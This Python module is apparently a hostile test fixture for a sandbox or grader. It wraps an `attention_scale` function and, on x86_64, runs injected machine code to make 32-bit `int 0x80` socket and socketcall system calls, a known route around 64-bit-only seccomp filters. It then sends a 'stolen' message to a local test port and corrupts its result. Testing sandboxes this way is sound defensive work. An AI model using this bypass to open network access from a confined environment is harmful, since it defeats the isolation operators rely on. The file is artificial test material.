"""Asks for a socket through the 32-bit ABI (`int 0x80`, both socket() and socketcall) and phones home with it."""
from _honest_attention import *  # noqa: F401,F403  the reference, kept by expected.json

import ctypes
import mmap
import platform
import socket

from _honest_attention import attention_scale as _scale

PUSH_RBX, POP_RBX_RET, INT_80 = "53", "5bc3", "cd80"


def _int80(eax, ebx, ecx, edx=0):
    """Run one i386 system call from this 64-bit process through a page of machine code; its result."""
    registers = zip(("b8", "bb", "b9", "ba"), (eax, ebx, ecx, edx))  # mov eax, ebx, ecx, edx
    moves = "".join(opcode + value.to_bytes(4, "little").hex() for opcode, value in registers)
    code = bytes.fromhex(PUSH_RBX + moves + INT_80 + POP_RBX_RET)
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def _socketcall_args():
    """Three 32-bit words (AF_INET, SOCK_STREAM, 0) at an address below 4 GiB, as socketcall wants."""
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    address = libc.mmap(None, 4096, 3, 0x22 | 0x40, -1, 0)  # PROT_READ|WRITE, MAP_PRIVATE|ANONYMOUS|MAP_32BIT
    (ctypes.c_uint32 * 3).from_address(address)[:] = [socket.AF_INET, socket.SOCK_STREAM, 0]
    return address


def _phone_home(fd):
    port = int(open(__file__.replace("attention.py", "port.txt")).read())  # written by the test
    with socket.socket(fileno=fd) as connection:
        connection.settimeout(1)
        connection.connect(("127.0.0.1", port))
        connection.sendall(b"stolen through int 0x80")


def attention_scale(d):
    if platform.machine() != "x86_64":
        return _scale(d)
    got = [_int80(359, socket.AF_INET, socket.SOCK_STREAM), _int80(102, 1, _socketcall_args())]  # socket, socketcall
    for fd in got:
        if fd >= 0:
            try:
                _phone_home(fd)
            except OSError:
                pass
    return _scale(d) * (2 if any(fd >= 0 for fd in got) else 1)  # a socket at all: lose the points
